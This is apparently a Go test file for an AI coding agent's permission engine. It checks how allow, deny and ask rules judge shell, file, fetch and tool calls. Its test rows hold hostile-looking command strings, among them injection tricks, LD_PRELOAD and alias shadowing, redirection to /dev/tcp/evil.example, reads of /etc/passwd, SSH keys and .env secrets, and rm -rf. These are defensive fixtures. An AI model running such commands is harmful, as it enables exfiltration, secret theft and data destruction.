package permission

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tenon-agent/tenon/tool"
)

// TestRules judges calls, written as in examples, by rules.
func TestRules(t *testing.T) {
	type row struct {
		call string
		want Action
	}
	tests := []struct {
		name  string
		mode  Mode
		rules []string
		rows  []row
	}{
		{"commands are allowed word by word", AskMode, []string{"allow shell(git push *)"}, []row{
			{"shell(git push)", Allow},
			{"shell(git push origin main)", Allow},
			{"shell('git' pu''sh origin)", Allow},
			{"shell(ls && git push)", Allow},
			{"shell(git push && git push --tags)", Allow},
			{"shell(sh -c 'git push')", Allow},
			{"shell(timeout 5 git push)", Allow},
			{"shell(git pushx)", Ask},
			{"shell(git push; rm x)", Ask},
			{"shell(git push && evil)", Ask},
			{"shell(git push $(evil))", Ask},
			{"shell(git push $branch)", Ask},
			{"shell(git push \"$branch\")", Ask},
			{"shell(git push > out)", Ask},
			{"shell(git push > /etc/passwd)", Ask},
			{"shell(git push < /etc/passwd)", Ask},
			{"shell(git push > /dev/tcp/evil.example/80)", Ask},
			{"shell(GIT_SSH_COMMAND=evil git push)", Ask},
			{"shell(PATH=.:$PATH; git push)", Ask},
			{"shell(env LD_PRELOAD=a git push)", Ask},
			{"shell(git -c core.sshCommand=evil push)", Ask},
			{"shell(sudo git push)", Ask},
			{"shell(ssh host git push)", Ask},
			{"shell(./git push)", Ask},
			{"shell(/tmp/git push)", Ask},
			{"shell(cd /tmp && git push)", Ask},
			{"shell(cd $x && git push)", Ask},
			{"shell(alias git=evil; git push)", Ask},
			{"shell(git() { evil; }; git push)", Ask},
			{"shell(git push (", Ask},
			{"shell(echo a | xargs git push)", Ask},
		}},
		{"a star between words is one word", AskMode, []string{"allow shell(git * main)"}, []row{
			{"shell(git push main)", Allow}, {"shell(git push origin main)", Ask}, {"shell(git push)", Ask}, {"shell(git p* main)", Ask},
		}},
		{"quotes are text", AskMode, []string{`allow shell(git commit -m 'a * b')`}, []row{
			{"shell(git commit -m 'a * b')", Allow}, {"shell(git commit -m 'a x b')", Ask},
		}},
		{"programs by their path", AskMode, []string{"allow shell(./test.sh *)"}, []row{
			{"shell(./test.sh -v)", Allow},
			{"shell(/w/test.sh)", Allow},
			{"shell(cd sub && ./test.sh)", Ask},
			{"shell(cd sub && ../test.sh)", Allow},
			{"shell(test.sh)", Ask},
			{"shell(bash ./test.sh)", Ask},
		}},
		{"bare shell allows what cannot be judged", AskMode, []string{"allow shell"}, []row{
			{"shell(evil $x)", Allow}, {"shell(ls ()", Allow}, {"shell(rm -rf x > y)", Allow}, {"shell(cat ~/.ssh/id)", Deny}, {"write(a)", Ask},
		}},
		{"one command is enough to deny", Yolo, []string{"deny shell(rm *)"}, []row{
			{"shell(rm x)", Deny},
			{"shell(cd x && rm -rf y)", Deny},
			{"shell(echo $(rm x))", Deny},
			{"shell(A=1 rm x)", Deny},
			{"shell(rm x > y)", Deny},
			{"shell(echo a | xargs rm)", Deny},
			{"shell(sh -c 'rm x')", Deny},
			{"shell(/bin/rm x)", Deny},
			{"shell(\\rm x)", Deny},
			{"shell(RM x)", Deny},
			{"shell(find . -exec rm {} +)", Deny},
			{"shell(sudo rm x)", Deny},
			{"shell(ssh host rm x)", Deny},
			{"shell(eval 'r''m x')", Deny},
			{"shell(rm)", Deny},
			{"shell(ls rm)", Allow},
			{"shell(echo 'rm x')", Allow},
			{"shell($x y)", Ask},
			{"shell(rm ()", Ask},
		}},
		{"options do not hide a command", Yolo, []string{"deny shell(git push *)", "deny shell(git reset --hard *)", "deny shell(rm -r *)"}, []row{
			{"shell(git push)", Deny},
			{"shell(git -C sub push origin)", Deny},
			{"shell(git --no-pager push)", Deny},
			{"shell(git -c a=b -C x push)", Deny},
			{"shell(git commit -m push)", Allow},
			{"shell(git log)", Allow},
			{"shell(git reset HEAD --hard)", Deny},
			{"shell(git reset --har)", Deny},
			{"shell(git reset)", Allow},
			{"shell(rm -fr x)", Deny},
			{"shell(rm x -r)", Deny},
			{"shell(rm x)", Allow},
			{"shell(git $x)", Ask},
			{"shell(git log $x)", Allow},
		}},
		{"wrappers are denied by name", Yolo, []string{"deny shell(sudo *)", "deny shell(bash *)"}, []row{
			{"shell(sudo ls)", Deny}, {"shell(bash -c ls)", Deny}, {"shell(ls)", Allow},
		}},
		{"the wider rule that denies wins over the narrow one that allows", AskMode, []string{"allow shell(git push origin main)", "deny shell(git *)"}, []row{
			{"shell(git push origin main)", Deny}, {"shell(git log)", Deny},
		}},
		{"asking wins over allowing", Auto, []string{"allow shell(git push *)", "ask shell(git push *)", "ask write(docs/**)"}, []row{
			{"shell(git push)", Ask}, {"write(docs/a.md)", Ask}, {"write(src/a.go)", Allow}, {"shell(touch docs/a)", Ask}, {"shell(touch src/a)", Allow},
		}},
		{"rules for paths hold for every tool and command", AskMode, []string{"allow write(docs/**)", "allow read(/usr/include/**)", "allow read(~/notes)", "deny read(*.pem)", "deny write(docs/secret/)"}, []row{
			{"write(docs/a/b.md)", Allow},
			{"edit(docs/a.md)", Allow},
			{"write(docs.md)", Ask},
			{"write(src/docs/a)", Ask},
			{"shell(touch docs/a)", Allow},
			{"shell(echo x > docs/a)", Allow},
			{"shell(echo x > docs/../a)", Ask},
			{"shell(rm -r docs)", Ask},
			{"read(/usr/include/stdio.h)", Allow},
			{"shell(cat /usr/include/stdio.h)", Allow},
			{"read(/usr/lib/a)", Allow},
			{"read(/etc/passwd)", Ask},
			{"read(~/notes/a)", Allow},
			{"read(a.pem)", Deny},
			{"read(x/y/a.pem)", Deny},
			{"shell(cat x/a.pem)", Deny},
			{"shell(grep x < a.pem)", Deny},
			{"grep(a.pem)", Deny},
			{"write(docs/secret/a)", Deny},
			{"shell(cat $x)", Ask},
			{"shell(cat *.pe?)", Ask},
		}},
		{"names that the shell makes", AskMode, []string{"deny read(*.pem)", "deny read(.env.local)", "deny read(keys/)"}, []row{
			{"shell(wc -l *.go)", Allow},
			{"shell(cat src/*_test.go)", Allow},
			{"shell(cat *.pe?)", Ask},
			{"shell(cat *.pem)", Ask},
			{"shell(cat *)", Ask},
			{"shell(cat .env.*)", Ask},
			{"shell(cat .env.lo*)", Ask},
			{"shell(cat keys/*.go)", Deny},
			{"shell(cat */*.go)", Ask},
			{"shell(grep -r x k*)", Ask},
		}},
		{"edit means all that edit", AskMode, []string{"allow edit(src/*.go)"}, []row{
			{"edit(src/a.go)", Allow}, {"multi_edit(src/a.go)", Allow}, {"patch(src/a.go)", Allow}, {"edit(src/x/a.go)", Ask}, {"write(src/a.go)", Ask},
		}},
		{"hosts", AskMode, []string{"allow fetch(example.com)", "allow fetch(*.example.org:443)", "deny fetch(10.0.0.0/8)", "deny fetch(bad.example.com)"}, []row{
			{"fetch(example.com)", Allow},
			{"fetch(EXAMPLE.com.:8443)", Allow},
			{"fetch(www.example.com)", Ask},
			{"fetch(example.com.evil.net)", Ask},
			{"fetch(a.example.org:443)", Allow},
			{"fetch(a.example.org:80)", Ask},
			{"fetch(a.example.org)", Ask},
			{"fetch(example.org:443)", Ask},
			{"fetch(10.1.2.3)", Deny},
			{"fetch(10.1.2.3:80)", Deny},
			{"fetch(0xa010203)", Deny},
			{"fetch(10.66051)", Deny},
			{"fetch([::ffff:10.1.2.3]:80)", Deny},
			{"fetch(11.1.2.3)", Ask},
			{"download(example.com)", Allow},
			{"shell(curl https://10.0.0.1/)", Deny},
			{"shell(curl https://example.com/)", Ask},
		}},
		{"names", AskMode, []string{"allow mcp(hub/get_*)", "deny mcp(db/*)", "allow openapi(shop/list*)", "deny openapi(shop/drop)", "allow agent(review)", "deny question", "allow lint"}, []row{
			{"mcp(hub/get_issue)", Allow},
			{"mcp(hub/close)", Ask},
			{"mcp(db/query)", Deny},
			{"openapi(shop/listOrders)", Allow},
			{"openapi(shop/newOrder)", Ask},
			{"openapi(shop/drop)", Deny},
			{"openapi(hub/list_issue)", Ask},
			{"agent(review)", Allow},
			{"agent(other)", Ask},
			{"question", Deny},
			{"todo", Allow},
			{"lint", Allow},
		}},
		{"no rule allows what the mode denies", Plan, []string{"allow *", "allow shell", "allow write", "allow unconfined"}, []row{
			{"write(a)", Deny}, {"shell(rm x)", Deny}, {"shell(make)", Deny}, {"fetch(example.com)", Allow}, {"read(/etc/passwd)", Allow}, {"read(.env)", Deny},
		}},
		{"what is protected is meant by its name", AskMode, []string{"allow write", "allow write(**)", "allow shell(cp *)", "allow write(.git/config)"}, []row{
			{"write(a)", Allow}, {"shell(cp a b)", Allow}, {"write(.git/hooks/x)", Ask}, {"shell(cp a .git/hooks/x)", Ask}, {"write(.git/config)", Allow},
		}},
		{"words that the shell expands may be what is denied", Yolo, []string{"deny shell(git push *)", "deny shell(rm secret)"}, []row{
			{"shell(git pus?)", Ask}, {"shell(gi[t] push)", Ask}, {"shell(rm *)", Ask}, {"shell(rm *.o)", Allow}, {"shell(git log '*.go')", Allow},
		}},
		{"commands in words of others", Yolo, []string{"deny shell(git push *)"}, []row{
			{"shell(printf 'git push' | sh)", Deny},
			{"shell(flock l -c 'git push')", Deny},
			{"shell(fish -c 'git push')", Deny},
			{"shell(script -qc 'git push' out)", Deny},
			{"shell(pwsh -Command 'git push')", Deny},
		}},
		{"what is not known may touch the files that it names", Yolo, []string{"deny read(.env)", "deny write(docs/**)"}, []row{
			{"shell(unknown .env)", Ask},
			{"shell(unknown --file=.env)", Ask},
			{"shell(cd sub && unknown ../.env)", Ask},
			{"shell(git hash-object .env)", Deny},
			{"shell(python3 x.py docs/a)", Ask},
			{"shell(unknown env)", Allow},
			{"shell(unknown docs)", Allow},
			{"shell(sort --files0-from=a)", Ask},
			{"shell(git show HEAD:.env)", Deny},
		}},
		{"everything", Yolo, []string{"deny *"}, []row{{"read(a)", Deny}, {"todo", Deny}, {"shell(ls)", Deny}}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			p := policy(t, test.mode, test.rules...)
			for _, row := range test.rows {
				line := ""
				if text, ok := strings.CutPrefix(row.call, "shell("); ok {
					line = strings.TrimSuffix(text, ")")
				}
				c, err := p.example(line, row.call)
				if err != nil {
					t.Fatal(err)
				}
				if d := p.Judge(c); d.Action != row.want {
					t.Errorf("%s: %s, want %s\n%s", row.call, d.Action, row.want, d)
				}
			}
		})
	}
}

func TestEffectsOfTools(t *testing.T) {
	tests := []struct {
		name string
		call Call
		want string // in the order of Modes
	}{
		{"nothing", Call{Tool: "todo", Effects: tool.Effects{None: true}}, "++++++"},
		{"undeclared", Call{Tool: "todo"}, "-????+"},
		{"unknown, and a read", Call{Tool: "x", Effects: tool.Effects{Unknown: true, Reads: []tool.Path{tool.File("/w/a")}}}, "-????+"},
		{"read", Call{Tool: "read", Effects: tool.Effects{Reads: []tool.Path{tool.File("/w/a")}}}, "++++++"},
		{"read outside", Call{Tool: "read", Effects: tool.Effects{Reads: []tool.Path{tool.File("/etc/a")}}}, "-???++"},
		{"read a secret", Call{Tool: "read", Effects: tool.Effects{Reads: []tool.Path{tool.File("/w/.env")}}}, "-----+"},
		{"search", Call{Tool: "grep", Effects: tool.Effects{Reads: []tool.Path{tool.Tree("/w")}}}, "++++++"},
		{"write", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/a")}}}, "--?+++"},
		{"write what is protected", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/.git/hooks/a")}}}, "--???+"},
		{"write what a repository within runs", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/sub/.git/config")}}}, "--???+"},
		{"write where a repository within is", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/sub/.git")}}}, "--???+"},
		{"delete a folder with protected files", Call{Tool: "delete", Effects: tool.Effects{Writes: []tool.Path{tool.Tree("/w/.git")}}}, "--???+"},
		{"write outside", Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{tool.File("/wx")}}}, "--???+"},
		{"both ends of a rename", Call{Tool: "patch", Effects: tool.Effects{Writes: []tool.Path{tool.File("/w/a"), tool.File("/x")}}}, "--???+"},
		{"fetch", Call{Tool: "fetch", Effects: tool.Effects{Hosts: []string{"example.com"}}}, "-????+"},
		{"of a server", Call{Tool: "mcp__a__b", Effects: tool.Effects{Unknown: true, Exclusive: true}}, "-????+"},
		{"unconfined", Call{Tool: "shell", Effects: tool.Effects{Command: "ls", Unconfined: true}}, "--???+"},
		{"agent", Call{Tool: "agent", Effects: tool.Effects{Agents: true}}, "-???++"},
		{"question", Call{Tool: "question", Effects: tool.Effects{Asks: true}}, "++++++"},
		{"job", Call{Tool: "job", Effects: tool.Effects{Command: "make", Unknown: true, Exclusive: true}}, "--??++"},
		{"command and file", Call{Tool: "x", Effects: tool.Effects{Command: "ls", Writes: []tool.Path{tool.File("/etc/a")}}}, "--???+"},
	}
	p := policy(t, "")
	for _, test := range tests {
		got := ""
		for _, m := range Modes() {
			got += string(signs[p.InMode(m).Judge(test.call).Action])
		}
		if got != test.want {
			t.Errorf("%s: %s, want %s", test.name, got, test.want)
		}
	}
}

func TestUnconfined(t *testing.T) {
	for rules, want := range map[string]Action{
		"allow shell": Ask, "allow *": Ask, "allow unconfined(go test *)": Allow, "allow unconfined": Allow, "allow unconfined(go *);deny shell(go test *)": Deny,
	} {
		p := policy(t, AskMode, strings.Split(rules, ";")...)
		d := p.Judge(Call{Tool: "shell", Effects: tool.Effects{Command: "go test ./...", Unconfined: true, Unknown: true, Exclusive: true}})
		if d.Action != want {
			t.Errorf("%s: %s, want %s", rules, d, want)
		}
	}
	p := policy(t, AskMode, "allow unconfined(go test *)")
	if d := p.Judge(Call{Tool: "shell", Effects: tool.Effects{Command: "go test; go build", Unconfined: true, Unknown: true, Exclusive: true}}); d.Action != Ask {
		t.Errorf("%s", d)
	}
	if d := p.Judge(p.Command("go test")); d.Action != Ask {
		t.Errorf("a rule for outside the sandbox allows inside: %s", d)
	}
}

func TestAutoWithoutSandbox(t *testing.T) {
	p, err := New(Options{Mode: Auto, Root: "/w"})
	if err != nil {
		t.Fatal(err)
	}
	d := p.Judge(p.Command("make"))
	if d.Action != Ask || d.Rule != "mode auto without a sandbox" || d.Code != "permission.runs_code" || len(p.Warnings()) != 1 || !strings.Contains(p.Warnings()[0], "cannot confine") {
		t.Errorf("%s%q", d, p.Warnings())
	}
}

// TestReasons holds that a verdict has the code of what decided, and that its reason names the mode or the rule.
func TestReasons(t *testing.T) {
	for line, want := range map[string]string{
		"touch a": "write: mode plan", "curl x.com": "network: mode plan", "ls": "reading_command: mode plan", "make": "runs_code: mode plan",
		"cat *.go;(": "cannot_judge: mode plan", "cat $x": "undetermined_read: mode plan", "cat /etc/x": "outside_read: mode plan", "cat .env": "secret: mode plan",
		"git push": "rule_denied: deny shell(git push *) (user)", "git log": "rule_asks: ask shell(git log *) (user)",
		"git $x": "unknown_command: mode plan",
	} {
		p := policy(t, Plan, "deny shell(git push *)", "ask shell(git log *)")
		v := p.Judge(Call{Tool: "shell", Effects: tool.Effects{Command: line, Dir: "/w"}})
		names := "mode plan"
		if v.Rule != names {
			names = v.Rule[strings.Index(v.Rule, " ")+1 : strings.LastIndex(v.Rule, " ")]
		}
		if got := strings.TrimPrefix(v.Code, "permission.") + ": " + v.Rule; got != want || !strings.Contains(v.Reason, names) {
			t.Errorf("%s: %s, want %s\n%s", line, got, want, v.Reason)
		}
	}
	if v := policy(t, AskMode, "allow shell(make)").Judge(policy(t, AskMode).Command("make")); v.Code != "permission.rule_allowed" || v.Action != Allow {
		t.Errorf("%s", v)
	}
	if v := policy(t, Yolo, "deny shell(git push *)").Judge(policy(t, Yolo).Command("git $x")); v.Code != "permission.rule_unsure" || v.Action != Ask {
		t.Errorf("%s", v)
	}
}

func TestUnattended(t *testing.T) {
	p := policy(t, AskMode)
	for line, want := range map[string]string{
		"git push":     "this run is not interactive: use --allow 'shell(git push *)' or --mode yolo",
		"touch a":      "this run is not interactive: use --allow 'shell(touch a)' or --mode edits",
		"evil":         "this run is not interactive: use --mode auto",
		"kill -9 1":    "this run is not interactive: use --mode yolo",
		"echo x > a":   "--allow 'write(./a)' or --mode edits",
		"make | tee a": "this run is not interactive: use --mode auto",
	} {
		d := p.Judge(p.Command(line)).Unattended()
		if d.Action != Deny || !strings.HasSuffix(d.Reason, want) {
			t.Errorf("%s: %s: %s, want %s", line, d.Action, d.Reason, want)
		}
	}
	if d := p.Judge(p.Command("ls")).Unattended(); d.Action != Allow {
		t.Errorf("%s", d)
	}
}

func TestUnreadable(t *testing.T) {
	p := policy(t, AskMode, "deny read(*.pem)", "ask read(b)")
	if r, ok := p.Unreadable("/w/x/a.pem"); !ok || r.Text() != "read(*.pem)" {
		t.Errorf("%v, %t", r, ok)
	}
	if _, ok := p.Unreadable("/w/b"); ok {
		t.Error("what is asked about is not denied")
	}
	search := Call{Tool: "grep", Effects: tool.Effects{Reads: []tool.Path{tool.Tree("/w")}}}
	if d := p.Judge(search); d.Action != Ask {
		t.Errorf("a search may show what must not be read: %s", d)
	}
	p.options.Filtered = true
	if d := p.With(parse(t, User, "deny read(c/**)")...).Judge(search); d.Action != Ask || !strings.Contains(d.Reason, "read(b)") {
		t.Errorf("%s", d)
	}
}

func TestJSON(t *testing.T) {
	p := policy(t, AskMode)
	data, err := json.Marshal(p.Judge(p.Command("ls && git push $x")))
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Verdict, Code, Rule, Mode string
		Commands                  []struct {
			Words         []string
			Dynamic       []int
			Verdict, Code string
		}
	}
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatal(err)
	}
	if got.Verdict != "ask" || got.Code != "permission.unknown_command" || got.Rule != "mode ask" || len(got.Commands) != 2 || got.Commands[0].Verdict != "allow" || got.Commands[0].Code != "permission.reading_command" || got.Commands[1].Dynamic[0] != 2 {
		t.Errorf("%s", data)
	}
}

// TestUnknownToolsFailClosed holds that no mode but a free one, and no rule about another tool, allows a call with unknown effects.
func TestUnknownToolsFailClosed(t *testing.T) {
	effects := []tool.Effects{
		{},
		{Idempotent: true},
		{Unknown: true},
		{Unknown: true, Reads: []tool.Path{tool.File("/w/a")}},
		{Unknown: true, None: true},
		{Unknown: true, Exclusive: true, Hosts: []string{"example.com"}},
	}
	rules := []string{"allow shell", "allow read", "allow write", "allow fetch", "allow mcp(other/*)", "allow todo", "allow agent"}
	for _, name := range []string{"x", "mcp__mail__send", "mcp__", "mcp(mail/send)", "shell", "read", ""} {
		for _, e := range effects {
			for _, m := range Modes() {
				allowed := m.Free()
				v := policy(t, m, rules...).Judge(Call{Tool: name, Effects: e}).Unattended()
				if (v.Action == Allow) != allowed {
					t.Errorf("mode %s, tool %q, effects %+v: %s", m, name, e, v)
				}
			}
		}
	}
	if v := policy(t, AskMode, "allow openapi(shop/get)").Judge(Call{Tool: "openapi__shop__get", Effects: tool.Effects{Hosts: []string{"example.com:443"}, Unknown: true}}); v.Action != Allow {
		t.Errorf("a rule about an operation does not cover its host: %v", v)
	}
	for rule, called := range map[string]string{
		"deny mcp(my.mail/send.all)": "mcp__my_mail__send_all", "deny mcp(my__mail_/se*)": "mcp__my_mail__send", "deny openapi(shop/users..list)": "openapi__shop__users_list",
	} {
		if v := policy(t, Yolo, rule).Judge(Call{Tool: called, Effects: tool.Effects{Unknown: true}}); v.Action != Deny {
			t.Errorf("%s does not deny %s: %v", rule, called, v)
		}
	}
	v := policy(t, AskMode, "allow mcp(mail/send)").Judge(Call{Tool: "mcp__mail__send"})
	if v.Action != Allow || v.Code != "permission.rule_allowed" {
		t.Errorf("%s", v)
	}
}

// A tool writes outside the sandbox. In mode edits it can write no file of a git directory, also of one that has another name, or that it makes
// from several files.
func TestToolsMakeNoRepositories(t *testing.T) {
	dir := t.TempDir()
	if err := errors.Join(os.MkdirAll(filepath.Join(dir, "bare"), 0o700), os.WriteFile(filepath.Join(dir, "bare/HEAD"), nil, 0o600)); err != nil {
		t.Fatal(err)
	}
	p, err := New(Options{Mode: Edits, Root: dir, Home: "/home/me", Sandboxed: true})
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]Action{
		"x/HEAD": Ask, "x/commondir": Ask, ".git/refs/x/config": Ask, "sub/.git/info/attributes": Ask,
		".git/index": Ask, "bare/config": Ask, "bare/hooks/update": Ask, "bare/refs/y": Ask,
		"bare/file": Allow, "x/config": Allow, "x/refs/y": Allow, "HEAD.md": Allow,
	} {
		c := Call{Tool: "write", Effects: tool.Effects{Writes: []tool.Path{{Name: filepath.Join(dir, name)}}}}
		if v := p.Judge(c); v.Action != want {
			t.Errorf("write(%s): %+v", name, v)
		}
	}
}
